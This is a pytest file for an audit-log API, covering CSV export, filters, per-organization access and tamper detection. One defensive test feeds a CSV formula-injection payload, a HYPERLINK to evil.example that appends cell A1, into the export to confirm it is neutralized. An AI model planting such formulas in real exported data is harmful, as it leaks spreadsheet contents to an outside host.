"""The audit log over the API: as CSV that no spreadsheet runs, within bounds, of one organization, and checked."""

import csv
import io
import uuid
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import msgspec
import pytest
from control_driver import NOW, Answer, Control
from people import person, token_of

from aibridge.contract.audit import AuditLog
from aibridge.control import audit as shown
from aibridge.domain.organization import DEFAULT_ORGANIZATION
from aibridge.domain.permission import Action, Resource
from aibridge.domain.role import RoleIdentifier
from aibridge.domain.roles import OWNER
from aibridge.store import audit, members, organizations, schema
from aibridge.store.database import Database

PATH = "/api/v2/audit"
INSTANT = NOW * 1_000_000


class Site(msgspec.Struct):
    """A site with two organizations besides the built-in one; `ann` audits one of them."""

    database: Database
    control: Control
    owner: str
    auditor: str
    acme: str
    other: str

    def record(self, name: str = "x", **values: Any) -> audit.Entry:
        given: dict[str, Any] = {
            "action": Action.UPDATE,
            "resource": Resource.ORGANIZATION,
            "resource_id": "1",
            "resource_name": name,
            "now": INSTANT,
        }
        who = audit.Who(actor_name="bob", address="10.0.0.1", user_agent=values.pop("user_agent", "cli"))
        with self.database.writing() as connection:
            return audit.record(connection, who, **given | values)

    def ask(self, query: str = "", token: str | None = None) -> Answer:
        return self.control.call(f"{PATH}{query}", token or self.owner)

    def lines(self, query: str = "", token: str | None = None) -> list[dict[str, str]]:
        answer = self.ask(f"/csv{query}", token)
        assert answer.status == 200, answer
        return list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    with closing(Database.open(f"sqlite:///{tmp_path}/aibridge.db")) as database:
        with database.writing() as connection:
            acme, other = (organizations.insert(connection, name=name, now=INSTANT).id for name in ("acme", "other"))
        root = person(database, "root", roles=(OWNER.identifier,), now=INSTANT)
        ann = person(database, "ann", organization_ids=(acme, DEFAULT_ORGANIZATION), now=INSTANT)
        with database.writing() as connection:
            auditor = RoleIdentifier("organization-auditor", acme)
            members.set_roles(connection, acme, ann.id, [auditor], now=INSTANT)
        owner, auditing = (token_of(database, user, now=INSTANT).text for user in (root, ann))
        yield Site(database, Control(database), owner, auditing, acme=str(acme), other=str(other))


def test_every_field_of_an_entry_is_a_column(site: Site) -> None:
    entry = site.record('caf\xe9, "quoted"\nand more', before={"a": 1}, after={"a": [2, None]}, user_agent="cli, 1")
    answer = site.ask("/csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    assert answer.headers["cache-control"] == "no-store"
    (line,) = site.lines()
    assert [*line] == list(AuditLog.__struct_fields__)
    assert line == {
        "number": "1",
        "time": "2026-09-21T14:13:20Z",
        "actor_id": "",
        "actor_name": "bob",
        "token_id": "",
        "action": "update",
        "resource": "organization",
        "resource_id": "1",
        "resource_name": 'caf\xe9, "quoted"\nand more',
        "organization_id": "",
        "before": '{"a":1}',
        "after": '{"a":[2,null]}',
        "address": "10.0.0.1",
        "user_agent": "cli, 1",
        "digest": entry.digest,
    }


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_is_a_formula(site: Site, first: str) -> None:
    formula = f'{first}HYPERLINK("http://evil.example/?"&A1)'
    site.record(formula, user_agent=formula)
    (line,) = site.lines()
    assert line["resource_name"] == line["user_agent"] == f"'{formula}"
    (told,) = site.ask().json["audit_logs"]
    assert told["resource_name"] == formula


def test_what_only_has_such_a_character_within_stays_as_it_is(site: Site) -> None:
    site.record("a=b", user_agent=" =1+1")
    (line,) = site.lines()
    assert (line["resource_name"], line["user_agent"]) == ("a=b", " =1+1")


def test_the_lines_are_the_newest_and_no_more_than_the_bound(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    assert shown.MOST_LINES == 100_000
    monkeypatch.setattr(shown, "MOST_LINES", 3)
    for number in range(5):
        site.record(f"x{number}")
    assert [line["resource_name"] for line in site.lines()] == ["x4", "x3", "x2"]


def test_pages_of_the_database_are_put_together(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(audit, "PAGE", 2)
    for number in range(5):
        site.record(f"x{number}")
    assert [line["number"] for line in site.lines()] == ["5", "4", "3", "2", "1"]


def test_both_forms_take_the_same_filters(site: Site) -> None:
    site.record("here", organization_id=place(site.acme))
    site.record("there", organization_id=place(site.other))
    site.record("made", action=Action.CREATE, resource=Resource.GROUP, resource_id="9", now=INSTANT + 5_000_000)
    for query, names in (
        (f"organization_id={site.acme}", ["here"]),
        ("action=create", ["made"]),
        ("resource=group", ["made"]),
        ("resource_id=9", ["made"]),
        ("actor=BOB", ["made", "there", "here"]),
        ("actor=nobody", []),
        ("date_from=2026-09-21T14:13:21Z", ["made"]),
        ("date_to=2026-09-21T14:13:20Z", ["there", "here"]),
        (f"organization_id={site.acme}&action=create", []),
    ):
        assert [line["resource_name"] for line in site.lines(f"?{query}")] == names, query
        answer = site.ask(f"?{query}").json
        assert [entry["resource_name"] for entry in answer["audit_logs"]] == names, query
        assert answer["count"] == len(names)


def place(text: str) -> uuid.UUID:
    return uuid.UUID(text)


def test_an_auditor_of_an_organization_sees_its_entries_alone(site: Site) -> None:
    for name, organization in (("here", site.acme), ("there", site.other)):
        site.record(name, organization_id=place(organization))
    site.record("site")
    assert [line["resource_name"] for line in site.lines(token=site.auditor)] == ["here"]
    assert [line["resource_name"] for line in site.lines(f"?organization_id={site.acme}", site.auditor)] == ["here"]
    for form in ("", "/csv"):
        assert site.ask(f"{form}?organization_id={site.other}", site.auditor).status == 404
    assert site.ask("/verify", site.auditor).status == 403


def test_a_log_is_valid_until_it_is_changed(site: Site) -> None:
    for number in range(3):
        site.record(f"x{number}")
    assert site.ask("/verify").json == {"count": 3, "valid": True, "broken_at": None}
    with site.database.writing() as connection:
        edited = schema.audit_log.update().where(schema.audit_log.c.number == 2)
        connection.execute(edited.values(resource_name="innocent"))
    assert site.ask("/verify").json == {"count": 1, "valid": False, "broken_at": 2}
